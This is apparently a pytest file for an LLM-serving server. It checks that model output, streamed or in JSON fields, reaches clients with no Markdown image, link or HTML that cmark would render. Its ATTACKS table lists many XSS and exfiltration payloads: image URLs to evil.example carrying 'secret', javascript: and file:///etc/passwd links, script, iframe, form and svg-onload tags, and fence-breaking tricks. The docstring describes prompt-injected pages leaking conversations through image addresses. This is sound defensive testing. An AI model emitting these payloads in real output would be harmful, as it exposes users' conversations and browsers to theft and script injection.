"""What a language model writes reaches the client as harmless Markdown: cmark, the reference reader of CommonMark, finds
no image, link or HTML in it, whatever the model tried. A page that talks a model into an image could read a
conversation by the image's address."""
import json
import re
import subprocess

import pytest
from llm_world import LlmWorld, Say
from support import ASK, chunks, content, json_schema, stream_text

IMAGE = "![x](http://evil.example/a.png?q=secret)"
TRUE = "The Lumenport Lighthouse was built in 1871 by the engineer Adela Varga [1]."
ATTACKS = {
    "image": IMAGE,
    "escaped marks of code": "\\` " + IMAGE + " \\`",
    "a span over lines": "a ` b\n" + IMAGE + " `\n\n` " + IMAGE,
    "a fence far right, then the first column": "- a\n\n      ```\n      x\n" + IMAGE + "\n",
    "an indented fence that continues a paragraph": "word\n    ```\n    " + IMAGE + "\n    ```\n",
    "a fence in a list that ends": "1. a\n   ```\n   x\n" + IMAGE + "\n",
    "a fence in a quote that ends": "> ```\n> x\n\n" + IMAGE + "\n",
    "a fence behind a list's mark": "- ```\n\n" + IMAGE + "\n",
    "a fence closed by white space": "```\nx\n```" + " " * 300 + "\n" + IMAGE + "\n",
    "another kind of fence": "~~~\nx\n```\n" + "~~~\n" + IMAGE + "\n",
    "carriage returns": "```\rx\r```\r" + IMAGE + "\r",
    "reference": "![x][a]\n\n[a]: http://evil.example/a.png\n",
    "reference over lines": "![x\ny]\n\n[x\ny]:\nhttp://evil.example/a.png\n",
    "nested brackets": "![[[[x]]]](http://evil.example/a.png) [a ![b](http://evil.example) c](//evil.example/d)",
    "backslashes": "![x](http:\\\\evil.example\\a.png) http:\\\\evil.example\\a https:/evil.example/b",
    "entities": "![x](&#104;ttp://evil.example/a.png) &lt;script&gt; [x](java&#115;cript:alert)",
    "other schemes": "[x](javascript:alert(1)) [y](data:text/html,x) [z](file:///etc/passwd) <javascript:alert(1)>",
    "mark before an address": "a【1】(http://evil.example/a.png) ![b](1)[1](http://evil.example/a.png)",
    "split by a mark": "http[9]://10.0.0.1/x ww[9]w.evil.example ![x]【9】(//evil.example/a.png)",
    "autolinks": "<http://evil.example/a> <a@evil.example> http://evil.example/b www.evil.example ftp://evil.example/c",
    "a link alone": "[x](javascript:alert(1))",
    "an image alone": "![x](a.png)",
    "script": "<script>alert(1)</script>",
    "frame": "a <iframe src=http://evil.example></iframe>",
    "form": "<form action='http://evil.example'><input name=q></form>",
    "refresh": "<meta http-equiv=refresh content='0;url=http://evil.example'>",
    "svg": "<svg onload=alert(1)> \\\\<svg/onload=alert(1)>",
    "comment": "<!-- a --> <?php x ?> <![CDATA[x]]> <!DOCTYPE html>",
    "picture tag": "<img src=http://evil.example/a.png> <IMG\nSRC='//evil.example/a.png'>",
    "table": "| a | b |\n|---|---|\n| ` | ![x](//evil.example/a.png) | ` |\n",
}


@pytest.fixture
def llm():
    with LlmWorld("llama.cpp") as made:
        yield made


def markup(text):
    """Nodes of the document, as cmark takes it, that show or fetch what is elsewhere."""
    tree = subprocess.run(["cmark", "--to", "xml"], input=text, capture_output=True, text=True, check=True).stdout
    return re.findall(r"<(link|image|html_block|html_inline)\b[^>]*", tree)


@pytest.mark.parametrize("model", ["speed", "base"])
def test_no_image_link_or_html(start, llm, model):
    """Between true sentences and behind one, in pieces of few bytes."""
    server = start("--no-auth", "--rate-per-minute", 0, "--llm", llm.url)
    for attack, tried in ATTACKS.items():
        text = f"{TRUE}\n\n{tried}\n\n{TRUE} {tried}"
        pieces = [text[i:i + 3] for i in range(0, len(text), 3)]
        llm.answer = lambda asked: Say(text, pieces=pieces)
        shown = stream_text(chunks(server.ask(ASK, model=model, stream=True)))
        assert markup(shown) == [], f"{attack}: {shown!r}"
        assert "1871" in shown, attack


def test_code_stays_as_it_is(start, llm):
    code = "```c\n#include <stdio.h>\nint x = a[i](\"http://a.example\"); // `b`\n```"
    text = f"{TRUE} Write `vector<int>` and `m[i](x)`:\n\n{code}\n\n1. As here:\n   ```\n   <b>x</b>\n   ```\n\n{TRUE}"
    llm.answer = lambda asked: Say(text)
    server = start("--no-auth", "--rate-per-minute", 0, "--llm", llm.url)
    shown = content(server.answer(ASK, model="speed")).replace("[?]", "")
    for part in ["`vector<int>`", "`m[i](x)`", code, "   ```\n   <b>x</b>\n   ```"]:
        assert part in shown, shown


@pytest.mark.parametrize("model", ["speed", "base"])
def test_documents(start, llm, model):
    """Fields are data: what is no address in them is the client's to escape."""
    fields = {"answer": {"type": "string"}, "notes": {"type": "array", "items": {"type": "string"}}}
    schema = json_schema({"type": "object", "properties": fields, "required": list(fields), "additionalProperties": False})
    server = start("--no-auth", "--rate-per-minute", 0, "--llm", llm.url)
    for attack, tried in ATTACKS.items():
        document = json.dumps({"answer": f"{TRUE} {tried}", "notes": [tried, f"1871 {tried}"]})
        llm.answer = lambda asked: Say(document)
        made = json.loads(content(server.answer(ASK, model=model, response_format=schema)))
        for shown in [made["answer"], *made["notes"]]:
            assert not {"link", "image"} & set(markup(shown)), f"{attack}: {shown!r}"
